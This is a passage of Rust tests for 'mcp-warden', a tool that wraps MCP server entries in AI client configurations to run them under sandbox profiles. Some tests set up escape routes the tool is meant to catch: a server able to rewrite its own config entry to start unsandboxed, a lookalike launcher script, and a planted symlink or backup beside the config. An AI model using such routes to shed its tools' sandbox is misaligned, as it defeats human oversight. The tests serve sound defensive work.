    assert!(!t.is_error && t.text.contains("hello"), "{}", t.text);
}

/// A project's client configuration inside the directory its filesystem server may write: the
/// server could rewrite its own entry and start bare next time, so `wrap` says so. Control: the
/// same entry in a configuration outside the grant gets no such warning.
#[test]
fn wrap_warns_when_a_server_may_rewrite_its_own_configuration() {
    let server = need(test_env().join("node/node_modules/@modelcontextprotocol/server-filesystem/dist/index.js"));
    let who = Who::current();
    let s = Scratch::new(who);
    let app = s.mkdir("app", who);
    s.mkdir("app/.vscode", who);
    let entry = serde_json::json!({"mcpServers": {"fs": {"command": "node", "args": [server, app]}}}).to_string();
    let wrap = |config: &std::path::Path| {
        std::fs::write(config, &entry).unwrap();
        run(warden_as(who, &["wrap".as_ref(), config.as_os_str()]), None, Duration::from_secs(30))
    };
    let o = wrap(&app.join(".vscode/mcp.json"));
    assert!(o.stderr.contains("fs: wrapped with profile `filesystem`"), "{}", o.describe());
    assert!(o.stderr.contains("this configuration is in its write grant"), "{}", o.describe());
    let o = wrap(&s.join("mcp.json"));
    assert!(o.stderr.contains("fs: wrapped with profile `filesystem`"), "{}", o.describe());
    assert!(!o.stderr.contains("this configuration is in its write grant"), "control: {}", o.describe());
}

/// An entry that only looks wrapped (a program called `mcp-warden` that is not this one) is
/// reported as such; a really wrapped one is scored like any other (control).
#[test]
fn wrap_tells_a_lookalike_launcher_from_this_one() {
    let who = Who::current();
    let s = Scratch::new(who);
    let fake = s.mkdir("fake", who).join("mcp-warden");
    std::fs::write(&fake, "#!/bin/sh\nexec \"$@\"\n").unwrap();
    let real = warden();
    let entry = |command: &std::path::Path| {
        let args = ["run", "--profile", "strict", "--", "/bin/true"];
        serde_json::json!({"mcpServers": {"x": {"command": command, "args": args}}}).to_string()
    };
    let wrap = |command: &std::path::Path| {
        let config = s.join("mcp.json");
        std::fs::write(&config, entry(command)).unwrap();
        run(warden_as(who, &["wrap".as_ref(), config.as_os_str()]), None, Duration::from_secs(30))
    };
    let o = wrap(&fake);
    assert!(
        o.stderr.contains("already runs under mcp-warden") && o.stderr.contains("is not this mcp-warden"),
        "{}",
        o.describe()
    );
    let o = wrap(&real);
    assert!(
        o.stderr.contains("already runs under mcp-warden") && o.stderr.contains("x: would start"),
        "{}",
        o.describe()
    );
    assert!(!o.stderr.contains("is not this mcp-warden"), "control: {}", o.describe());
}

/// `mcp-warden wrap` with no file: the configs of the clients this user has, found and wrapped
/// (a Cursor config in JSONC and a Codex TOML here), each named on stderr.
#[test]
fn wrap_without_a_file_finds_the_users_client_configs() {
    let who = Who::current();
    let home = Scratch::new(who);
    std::fs::create_dir_all(home.join(".cursor")).unwrap();
    std::fs::create_dir_all(home.join(".codex")).unwrap();
    let cursor =
        "{\n  // mine\n  \"mcpServers\": { \"t\": { \"command\": \"uvx\", \"args\": [\"mcp-server-time\"], }, },\n}\n";
    std::fs::write(home.join(".cursor/mcp.json"), cursor).unwrap();
    std::fs::write(
        home.join(".codex/config.toml"),
        "[mcp_servers.t]\ncommand = \"uvx\"\nargs = [\"mcp-server-time\"]\n",
    )
    .unwrap();
    for f in [".cursor", ".cursor/mcp.json", ".codex", ".codex/config.toml"] {
        chown_to(&home.join(f), who);
    }
    let mut c = warden_as(who, &["wrap".as_ref(), "--write".as_ref()]);
    c.env("HOME", home.path());
    let o = run(c, None, Duration::from_secs(30));
    assert_eq!(o.code(), Some(0), "{}", o.describe());
    assert!(
        o.stderr.contains("Cursor: ") && o.stderr.contains("(found)") && o.stderr.contains("Zed: "),
        "{}",
        o.stderr
    );
    let cursor_after = std::fs::read_to_string(home.join(".cursor/mcp.json")).unwrap();
    assert!(cursor_after.contains("// mine") && cursor_after.contains("\"--profile\", \"time\""), "{cursor_after}");
    let codex_after = std::fs::read_to_string(home.join(".codex/config.toml")).unwrap();
    assert!(codex_after.contains("args = [\"run\", \"--profile\", \"time\""), "{codex_after}");
}

/// `mcp-warden wrap`: preview, write with a backup, idempotence, undo; and the wrapped entry
/// starts its real server under the recognised profile.
#[test]
fn wrap_rewrites_a_client_config_that_then_runs() {
    let python = need(test_env().join("venv/bin/python"));
    let who = Who::current();
    let s = Scratch::new(who);
    let config = s.join("claude_desktop_config.json");
    let original = format!(
        "{{\n  \"theme\": \"dark\",\n  \"mcpServers\": {{\n    \"time\": {{ \"command\": \"{}\", \"args\": [\"-m\", \"mcp_server_time\"] }},\n    \"remote\": {{ \"url\": \"https://example.invalid/mcp\" }}\n  }}\n}}\n",
        python.display()
    );
    std::fs::write(&config, &original).unwrap();
    let wrap = |extra: &[&str]| {
        let mut args: Vec<&std::ffi::OsStr> = vec!["wrap".as_ref(), config.as_os_str()];
        args.extend(extra.iter().map(|a| std::ffi::OsStr::new(*a)));
        run(warden_as(who, &args), None, Duration::from_secs(30))
    };
    let preview = wrap(&[]);
    assert_eq!(preview.code(), Some(0), "{}", preview.describe());
    let added: Vec<&str> = preview.stdout.lines().filter(|l| l.starts_with('+') && !l.starts_with("+++")).collect();
    assert!(
        added.len() == 1 && added[0].contains("mcp-warden\"") && added[0].contains("\"--profile\""),
        "a diff of the one line that changes: {}",
        preview.stdout
    );
    assert_eq!(std::fs::read_to_string(&config).unwrap(), original, "a preview changes nothing");

    let planted = s.join("claude_desktop_config.json.mcp-warden.bak");
    std::os::unix::fs::symlink(s.join("planted-login"), &planted).unwrap();
    let written = wrap(&["--write"]);
    assert_eq!(written.code(), Some(0), "{}", written.describe());
    assert!(
        written.stderr.contains("time: wrapped with profile `time`")
            && written.stderr.contains("remote: not a stdio server")
    );
    let v: serde_json::Value = serde_json::from_str(&std::fs::read_to_string(&config).unwrap()).unwrap();
    assert_eq!(v["theme"], "dark");
    assert_eq!(v["mcpServers"]["remote"], serde_json::json!({"url": "https://example.invalid/mcp"}));
    let entry = &v["mcpServers"]["time"];
    let args: Vec<String> = entry["args"].as_array().unwrap().iter().map(|a| a.as_str().unwrap().to_string()).collect();
    assert_eq!(args, ["run", "--profile", "time", "--", python.to_str().unwrap(), "-m", "mcp_server_time"]);
    // The original is kept in mcp-warden's state directory, never beside the config, where a
    // cloned project could plant a "backup" for `--undo` to restore, or a symlink for `--write`.
    let kept = written.stderr.split("original kept in ").nth(1).and_then(|r| r.split(')').next()).unwrap();
    assert!(std::path::Path::new(kept).starts_with(state_home(who)), "{kept}");
    assert_eq!(std::fs::read_to_string(kept).unwrap(), original);
    assert!(!s.join("planted-login").exists(), "the planted symlink beside the config was not followed");

    // The wrapped entry is what a client would start: it must work.
    let command = entry["command"].as_str().unwrap();
    assert!(command.ends_with("mcp-warden"), "{command}");
    let session_args: Vec<&str> = args.iter().map(String::as_str).collect();
    let t = session(who, "get_current_time", r#"{"timezone": "UTC"}"#, &session_args, &[]);
    assert!(!t.is_error && t.text.contains("UTC"), "{}", t.text);

    let again = wrap(&["--write"]);
    assert!(
        again.stderr.contains("already runs under mcp-warden") && again.stderr.contains("nothing to change"),
        "{}",
        again.describe()
    );
    let undone = wrap(&["--undo"]);
    assert_eq!(undone.code(), Some(0), "{}", undone.describe());
    assert_eq!(std::fs::read_to_string(&config).unwrap(), original, "the original bytes are back");
    assert!(!std::path::Path::new(kept).exists(), "the backup is removed once restored");
}
